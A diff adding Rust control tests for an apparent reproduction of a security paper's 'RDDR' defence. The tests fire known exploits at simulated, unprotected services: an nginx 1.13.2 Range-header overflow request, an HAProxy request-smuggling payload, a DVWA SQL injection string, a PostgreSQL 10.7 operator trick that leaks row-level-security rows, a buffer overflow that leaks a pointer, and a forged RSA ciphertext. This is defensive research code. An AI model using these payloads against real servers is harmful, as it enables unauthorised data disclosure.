@@ -1,0 +1,192 @@
+//! Control experiments: the same exploits against *unprotected* single
+//! instances must succeed. This is what makes Table I meaningful — the
+//! attacks are real, and RDDR (not the substrate) is what stops them.
+
+use std::sync::Arc;
+
+use rddr_repro::httpsim::haproxy::{smuggling_payload, smuggling_target_service};
+use rddr_repro::httpsim::{
+    DvwaSim, HaproxySim, HttpClient, NginxSim, NginxVersion, SecurityLevel,
+};
+use rddr_repro::libsim::aslr::BUFFER_SIZE;
+use rddr_repro::net::{Network, ServiceAddr};
+use rddr_repro::orchestra::{Cluster, ContainerHandle, Image};
+use rddr_repro::pgsim::{Database, PgServer, PgVersion};
+
+fn keep(h: ContainerHandle) {
+    std::mem::forget(h);
+}
+
+#[test]
+fn unprotected_nginx_leaks_cache_memory() {
+    let cluster = Cluster::new(2);
+    let server = NginxSim::file_server(NginxVersion::parse("1.13.2"));
+    server.publish("/f", b"doc".to_vec(), b"NEIGHBOUR-SECRET".to_vec());
+    keep(cluster
+        .run_container("n", Image::new("nginx", "1.13.2"), &ServiceAddr::new("n", 80), Arc::new(server))
+        .unwrap());
+    let net = cluster.net();
+    let mut attacker = HttpClient::connect(&net, &ServiceAddr::new("n", 80)).unwrap();
+    attacker
+        .send_raw(b"GET /f HTTP/1.1\r\nHost: n\r\nRange: bytes=-9223372036854775608\r\n\r\n")
+        .unwrap();
+    let resp = attacker.read_response().unwrap();
+    assert_eq!(resp.status, 206);
+    assert!(
+        resp.body_text().contains("NEIGHBOUR-SECRET"),
+        "without RDDR the overflow must leak"
+    );
+}
+
+#[test]
+fn unprotected_haproxy_serves_the_smuggled_internal_route() {
+    let cluster = Cluster::new(2);
+    keep(cluster
+        .run_container(
+            "s1",
+            Image::new("s1", "v1"),
+            &ServiceAddr::new("s1", 9100),
+            Arc::new(smuggling_target_service()),
+        )
+        .unwrap());
+    keep(cluster
+        .run_container(
+            "h",
+            Image::new("haproxy", "1.5.3"),
+            &ServiceAddr::new("h", 8080),
+            Arc::new(HaproxySim::new(ServiceAddr::new("s1", 9100))),
+        )
+        .unwrap());
+    let net = cluster.net();
+    let mut attacker = HttpClient::connect(&net, &ServiceAddr::new("h", 8080)).unwrap();
+    attacker.send_raw(&smuggling_payload()).unwrap();
+    let _outer = attacker.read_response().unwrap();
+    let smuggled = attacker.read_response().unwrap();
+    assert!(
+        smuggled.body_text().contains("INTERNAL"),
+        "without RDDR the smuggled request must reach /internal"
+    );
+}
+
+#[test]
+fn unprotected_dvwa_low_dumps_the_users_table() {
+    let cluster = Cluster::new(2);
+    let mut db = Database::new(PgVersion::parse("10.9").unwrap());
+    rddr_repro::httpsim::dvwa::seed_dvwa_schema(&mut db).unwrap();
+    keep(cluster
+        .run_container(
+            "db",
+            Image::new("postgres", "10.9"),
+            &ServiceAddr::new("db", 5432),
+            Arc::new(PgServer::new(db)),
+        )
+        .unwrap());
+    keep(cluster
+        .run_container(
+            "dvwa",
+            Image::new("dvwa", "v1"),
+            &ServiceAddr::new("dvwa", 80),
+            Arc::new(DvwaSim::new(
+                SecurityLevel::Low,
+                ServiceAddr::new("db", 5432),
+                1,
+            )),
+        )
+        .unwrap());
+    let net = cluster.net();
+    let mut attacker = HttpClient::connect(&net, &ServiceAddr::new("dvwa", 80)).unwrap();
+    let page = attacker.get("/vuln/sqli").unwrap();
+    let token = page
+        .body_text()
+        .split("name=\"user_token\" value=\"")
+        .nth(1)
+        .and_then(|r| r.split('"').next())
+        .unwrap()
+        .to_string();
+    let resp = attacker
+        .get(&format!(
+            "/vuln/sqli/run?id={}&user_token={token}",
+            rddr_repro::httpsim::framework::url_encode("1' OR '1'='1")
+        ))
+        .unwrap();
+    let text = resp.body_text();
+    for name in ["admin", "Gordon", "Pablo", "Bob"] {
+        assert!(text.contains(name), "full dump must include {name}: {text}");
+    }
+}
+
+#[test]
+fn unprotected_pg_10_7_leaks_rls_rows() {
+    let mut db = Database::new(PgVersion::parse("10.7").unwrap());
+    rddr_repro::httpsim::gitlab::seed_gitlab_schema(&mut db).unwrap();
+    let mut session = db.session("gitlab");
+    db.execute(
+        &mut session,
+        "CREATE FUNCTION op_leak(int, int) RETURNS bool \
+         AS 'BEGIN RAISE NOTICE ''leak %, %'', $1, $2; RETURN $1 < $2; END' \
+         LANGUAGE plpgsql",
+    )
+    .unwrap();
+    db.execute(
+        &mut session,
+        "CREATE OPERATOR <<< (procedure=op_leak, leftarg=int, rightarg=int, \
+         restrict=scalarltsel)",
+    )
+    .unwrap();
+    let r = db
+        .execute(
+            &mut session,
+            "SELECT * FROM user_secrets WHERE secret_level <<< 1000",
+        )
+        .unwrap();
+    assert!(
+        r.notices.iter().any(|n| n.contains("900")),
+        "without RDDR the 10.7 instance leaks hidden rows via NOTICE: {:?}",
+        r.notices
+    );
+}
+
+#[test]
+fn unprotected_aslr_echo_leaks_a_pointer() {
+    let cluster = Cluster::new(2);
+    keep(cluster
+        .run_container(
+            "echo",
+            Image::new("echo-poc", "v1"),
+            &ServiceAddr::new("echo", 7),
+            Arc::new(rddr_repro::httpsim::rest::AslrEchoService::launch(0xfeed)),
+        )
+        .unwrap());
+    let net = cluster.net();
+    use rddr_repro::net::Stream as _;
+    let mut conn = net.dial(&ServiceAddr::new("echo", 7)).unwrap();
+    let mut payload = vec![b'A'; BUFFER_SIZE + 8];
+    payload.push(b'\n');
+    conn.write_all(&payload).unwrap();
+    let mut reply = Vec::new();
+    let mut b = [0u8; 1];
+    while conn.read(&mut b).map(|n| n > 0).unwrap_or(false) {
+        if b[0] == b'\n' {
+            break;
+        }
+        reply.push(b[0]);
+    }
+    let text = String::from_utf8_lossy(&reply);
+    let tail = &text[text.len() - 16..];
+    assert!(
+        tail.bytes().all(|c| c.is_ascii_hexdigit()),
+        "without RDDR the pointer leaks: {text}"
+    );
+}
+
+#[test]
+fn unprotected_forged_rsa_ciphertext_decrypts() {
+    use rddr_repro::libsim::{craft_forged_ciphertext, RsaDecryptor, RsaKeyPair, RsaLib};
+    let key = RsaKeyPair::demo();
+    let forged = craft_forged_ciphertext(&key);
+    let plaintext = RsaLib::new().decrypt(&key, forged).unwrap();
+    assert!(
+        plaintext.starts_with(b"pw"),
+        "without a diverse pair the forgery decrypts to attacker-chosen bytes"
+    );
+}
